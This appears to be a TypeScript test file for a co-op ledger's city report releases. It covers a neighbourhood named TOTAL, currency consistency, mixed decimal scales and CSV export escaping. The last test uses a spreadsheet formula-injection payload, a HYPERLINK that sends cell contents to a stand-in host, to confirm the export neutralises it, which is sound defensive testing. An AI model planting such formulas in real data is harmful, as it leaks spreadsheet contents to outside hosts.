/**
 * What a co-op or an analyst can put into a release (issue 15, audit of 2026-12-07): a co-op
 * whose neighbourhood is literally TOTAL (the code of every classification's margin), and a
 * release in another currency than the city's earlier ones.
 */
import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LedgerClient } from '../../client-sdk/index.js';
import { addMonths, type CoopFixture, postRevenue, setupCoop, today } from '../helpers/coop.js';
import { connectPg, ledgerClient, uniqueSuffix } from '../helpers/ledger.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { issueToken } from '../helpers/tokens.js';

let server: TestServer;
let admin: LedgerClient;
let db: pg.Client;
const M2 = addMonths(today(), -2).slice(0, 7);
const M1 = addMonths(today(), -1).slice(0, 7);
const founded = `${addMonths(today(), -4).slice(0, 7)}-01`;

beforeAll(async () => {
  server = await startTestServer();
  admin = ledgerClient(server.url, { token: server.adminToken });
  db = await connectPg();
});
afterAll(async () => {
  await db?.end();
  await server?.stop();
});

/**
 * A city of co-ops in the given neighbourhoods, revenue in M2 and M1, consenting; its analyst.
 * Their books keep USD with 2 decimal places, or as many as `scales` gives.
 */
async function city(name: string, neighbourhoods: string[], scales: number[] = []): Promise<LedgerClient> {
  const made: CoopFixture[] = [];
  for (const [i, neighbourhood] of neighbourhoods.entries()) {
    const fixture = await setupCoop(server.url, admin, {
      city: name,
      neighbourhood,
      naicsCode: '311811',
      foundedOn: founded,
      dataSharingConsent: true,
      baseCurrency: { code: 'USD', scale: scales[i] ?? 2 },
    });
    await postRevenue(fixture, M2, `${1000 + 100 * i}.00`);
    await postRevenue(fixture, M1, `${1000 + 100 * i}.00`);
    made.push(fixture);
  }
  await db.query('update coop set data_sharing_consent_at = $2::date where book_id = any($1::uuid[])', [
    made.map((c) => c.bookUuid),
    founded,
  ]);
  return ledgerClient(server.url, {
    token: (await issueToken(admin, { grants: [{ role: 'CITY_ANALYST', scope: name }] })).token,
  });
}

describe('inputs of a release', () => {
  it('a co-op whose neighbourhood is called TOTAL does not break its city’s releases', async () => {
    const name = `Totalville ${uniqueSuffix()}`;
    const analyst = await city(name, ['TOTAL', 'North', 'North', 'North']);
    const published = await analyst.publishCityReport({ city: name, currency: 'USD', throughMonth: M2 });
    expect(published.userErrors).toEqual([]);
    const neighbourhoods = published.release!.neighbourhoods;
    expect(neighbourhoods).toHaveLength(2);
    expect(neighbourhoods).toContain('North');
    expect(neighbourhoods).not.toContain('TOTAL');
    expect(neighbourhoods).toContain('TOTAL (neighbourhood)');
    // The city's total is the margin, not the co-op's neighbourhood: 4 co-ops, 4,600.00.
    const total = await analyst.cityReport({ city: name, measures: ['REVENUE', 'COOPS'], from: M2, to: M2 });
    expect(total.userErrors).toEqual([]);
    expect(total.cells.map((c) => [c.neighbourhood, c.measure, c.value])).toEqual([
      ['TOTAL', 'REVENUE', '4600.00'],
      ['TOTAL', 'COOPS', '4'],
    ]);
  });

  it('a release in another currency than the earlier ones is refused', async () => {
    const name = `Twocurrency ${uniqueSuffix()}`;
    const analyst = await city(name, ['North', 'North', 'North']);
    const first = await analyst.publishCityReport({ city: name, currency: 'USD', throughMonth: M2 });
    expect(first.userErrors).toEqual([]);
    // Its money cells would add months in euros to months in dollars under one label.
    const other = await analyst.publishCityReport({ city: name, currency: 'EUR', throughMonth: M1 });
    expect(other.userErrors.map((e) => [e.code, e.field])).toEqual([['INVALID_INPUT', 'currency']]);
    const same = await analyst.publishCityReport({ city: name, currency: 'USD', throughMonth: M1 });
    expect(same.userErrors).toEqual([]);
  });

  it('adds up co-ops whose books keep the currency to different decimal places', async () => {
    // Three books in cents, one in thousandths of a dollar: 1,000.00 + 1,100.00 + 1,200.00 +
    // 1,300.000. The release is in thousandths (the finest of its co-ops).
    const name = `Mixedscale ${uniqueSuffix()}`;
    const analyst = await city(name, ['North', 'North', 'North', 'North'], [2, 2, 2, 3]);
    const published = await analyst.publishCityReport({ city: name, currency: 'USD', throughMonth: M2 });
    expect(published.userErrors).toEqual([]);
    const total = await analyst.cityReport({ city: name, measures: ['REVENUE'], from: M2, to: M2 });
    expect(total.cells.map((c) => c.value)).toEqual(['4600.000']);
  });

  it('the CSV export keeps a neighbourhood named like a formula from being one', async () => {
    const name = `Formulaton ${uniqueSuffix()}`;
    const evil = '=HYPERLINK("http://example.invalid/?"&A1,"open")';
    const analyst = await city(name, [evil, evil, evil, '@SUM(1+1)']);
    const published = await analyst.publishCityReport({ city: name, currency: 'USD', throughMonth: M2 });
    expect(published.userErrors).toEqual([]);
    const csv = await analyst.cityReportExport({ city: name, format: 'CSV' });
    const lines = csv.content!.split('\r\n');
    const fields = (line: string) => line.split(',');
    // Every field of every row starts with no formula character but a value's minus sign.
    for (const line of lines.slice(1, -1)) {
      const [, , neighbourhood] = fields(line);
      expect(neighbourhood, line).not.toMatch(/^"?[=+\-@\t\r]/);
    }
    expect(lines.some((l) => fields(l)[2] === `"'=HYPERLINK(""http://example.invalid/?""&A1`)).toBe(true);
    expect(lines.some((l) => fields(l)[2] === "'@SUM(1+1)")).toBe(true);
    // JSON carries the names as they are.
    const json = await analyst.cityReportExport({ city: name, format: 'JSON' });
    const cells = (JSON.parse(json.content!) as { cells: { neighbourhood: string }[] }).cells;
    expect(cells.some((c) => c.neighbourhood === evil)).toBe(true);
  });
});
